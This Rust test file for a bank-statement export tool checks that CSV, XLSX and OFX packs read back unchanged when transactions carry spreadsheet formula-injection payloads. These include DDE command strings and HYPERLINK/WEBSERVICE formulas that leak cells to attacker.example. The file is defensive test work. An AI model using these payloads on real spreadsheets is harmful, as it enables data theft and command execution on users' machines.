//! Packs for accountants: written by the program, opened by readers that nobody here wrote, and compared with the lake.

use std::path::Path;
use std::process::Command;

use powens_export::sandbox::{NewAccount, SandboxConfig, World};

use crate::support::{Bank, Done, office, readers};

const PROFILES: [&str; 6] = ["iso", "fr", "de", "uk", "us", "fr-legacy"];

/// What formulas begin with somewhere, what a guard may overlook in front of it, and what then runs.
const LEADS: [&str; 10] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−"];
const IN_FRONT: [&str; 9] = ["", " ", "\t", "\r", "\n", "\u{A0}", "\u{FEFF}", "\"", "  \""];
const BODIES: [&str; 3] = ["1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0"];

/// Payloads of OWASP and of advisories, and texts that spreadsheets retype.
const TEXTS: [&str; 40] = [
    "=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: please click\")",
    "=WEBSERVICE(\"http://attacker.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "=1+1\";=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "\"=1+1",
    "'=1+1",
    "''",
    "{=1+1}",
    "#N/A",
    "VRAI",
    "false",
    "00123",
    "1E5",
    "1e-5",
    "12345678901234567890",
    "+33612345678",
    "1 234,50",
    "1.234,50",
    "-12,50",
    "12:30",
    "1/2",
    "3-4",
    "22/11/2026",
    "2026-11-22",
    "22.5",
    "22 mai",
    "5. März",
    "MARCH1",
    "13.3.",
    "5 %",
    "(12)",
    "12 €",
    "½",
];

/// Texts of the letters that numbers, dates and times are made of.
fn number_like(count: u64) -> impl Iterator<Item = String> {
    const LETTERS: [char; 30] = [
        '0', '1', '2', '3', '4', '5', '6', '7', '8', '9', ' ', '.', ',', ':', '/', '-', '+', 'e', 'E', '%',
        '(', ')', '\'', '€', '$', '\u{A0}', 'm', 'j', 'a', 't',
    ];
    (0..count).map(|n| {
        let mut state = n.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
        let mut next = |below: usize| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) as usize % below
        };
        (0..=next(9)).map(|_| LETTERS[next(LETTERS.len())]).collect()
    })
}

fn hostile_texts() -> Vec<String> {
    let built = LEADS.iter().flat_map(|lead| {
        IN_FRONT.iter().flat_map(move |front| BODIES.iter().map(move |body| format!("{front}{lead}{body}")))
    });
    built.chain(TEXTS.iter().map(|text| (*text).to_owned())).chain(number_like(300)).collect()
}

/// An account of October whose wordings, counterparties and comments are hostile, and whose amounts are mostly negative.
fn hostile_account(world: &mut World) -> i64 {
    let user = world.add_user();
    let (connection, _) = world.add_connection(user, 1).unwrap();
    let account = world
        .add_account(user, &NewAccount { connection: Some(connection), ..NewAccount::default() })
        .unwrap();
    for (n, text) in hostile_texts().into_iter().enumerate() {
        let date = format!("2026-10-{:02}", n % 31 + 1);
        let value = ["-12.50", "-0.01", "1234567.89", "-99999.99", "0"][n % 5];
        let id = world.insert_transaction(user, account, &date, value).unwrap();
        world.edit_transaction(user, id, |row| {
            row.vdate = Some(date.into());
            row.rare_mut().comment = Some(text.clone().into());
            row.rare_mut().counterparty.get_or_insert_default().label = Some(text.clone().into());
            row.original_wording = text.into();
        });
    }
    world.edit_account(user, account, |row| {
        row.balance = Some("1000.10".into());
        row.name = "=1+1".into();
    });
    account
}

fn statements(bank: &Bank, lake: &Path, out: &Path, flags: &[&str]) -> Done {
    bank.program()
        .args(["statements", lake.to_str().unwrap(), "--out", out.to_str().unwrap()])
        .args(flags.iter().copied())
        .done()
}

#[test]
fn every_pack_reads_back_equal_to_the_lake() {
    let Some(python) = readers() else { return };
    let bank = Bank::new(SandboxConfig { users: 12, seed: 7, ..SandboxConfig::default() });
    let hostile = bank.sandbox.with_world(hostile_account).to_string();
    let folder = tempfile::tempdir().unwrap();
    let (lake, packs) = (folder.path().join("lake"), folder.path().join("packs"));
    std::fs::create_dir(&packs).unwrap();
    bank.run(&lake, &[]).expect(3);
    let write = |profile: &str, format: &str, more: &[&str]| {
        let flags = ["--month", "2026-10", "--profile", profile, "--format", format];
        let out = packs.join(format!("{profile}-{format}"));
        let report = statements(&bank, &lake, &out, &[&flags[..], more].concat()).expect(3).stdout;
        // Whatever the language of the pack.
        assert!(report.contains(": the client has not consented to this account"), "{report}");
    };
    let everything = ["--include-coming", "--include-deleted"];
    PROFILES.iter().for_each(|profile| write(profile, "csv", &everything));
    write("fr", "xlsx", &everything);
    write("fr", "ofx", &[]);

    let mut check = Command::new(python);
    check.arg("-B").arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/readback/statements.py"));
    check.arg("--lake").arg(&lake).arg("--packs").arg(&packs).args(["--month", "2026-10"]);
    check.arg("--scratch").arg(folder.path()).args(["--account", &hostile]);
    if let Some(office) = office() {
        check.arg("--soffice").arg(office);
    }
    let read = check.output().unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    assert!(read.status.success(), "{}\n{}", text(&read.stdout), text(&read.stderr));
}

/// A user that a run left alone holds the dates of an earlier one, whatever dates that run asked for.
#[test]
fn a_user_kept_with_fewer_dates_says_so_and_has_no_balances() {
    let bank = Bank::new(SandboxConfig { users: 3, seed: 5, edge_cases: false, ..SandboxConfig::default() });
    let folder = tempfile::tempdir().unwrap();
    let (lake, pack) = (folder.path().join("lake"), folder.path().join("pack"));
    let users = bank.sandbox.with_world(|world| world.users());
    let (fetched, kept) = (users[0].to_string(), users[1].to_string());
    bank.run(&lake, &["--from", "2026-09-01", "--to", "2026-11-10"]).expect(0);
    bank.run(&lake, &["--user", &fetched]).expect(0);
    let report = |user: &str| {
        let flags = ["--month", "2026-10", "--profile", "iso", "--user", user, "--force"];
        let done = statements(&bank, &lake, &pack, &flags);
        (done.code, std::fs::read_to_string(pack.join("balances.csv")).unwrap())
    };
    let (code, balances) = report(&fetched);
    assert_eq!(code, Some(0), "{balances}");
    assert!(balances.contains("opening and closing, back from"), "{balances}");
    let (code, balances) = report(&kept);
    assert_eq!(code, Some(0), "October is held: {balances}");
    assert!(balances.contains("the export holds nothing after 2026-11-10"), "{balances}");
    assert!(!balances.contains("opening and closing, back from"), "{balances}");
}
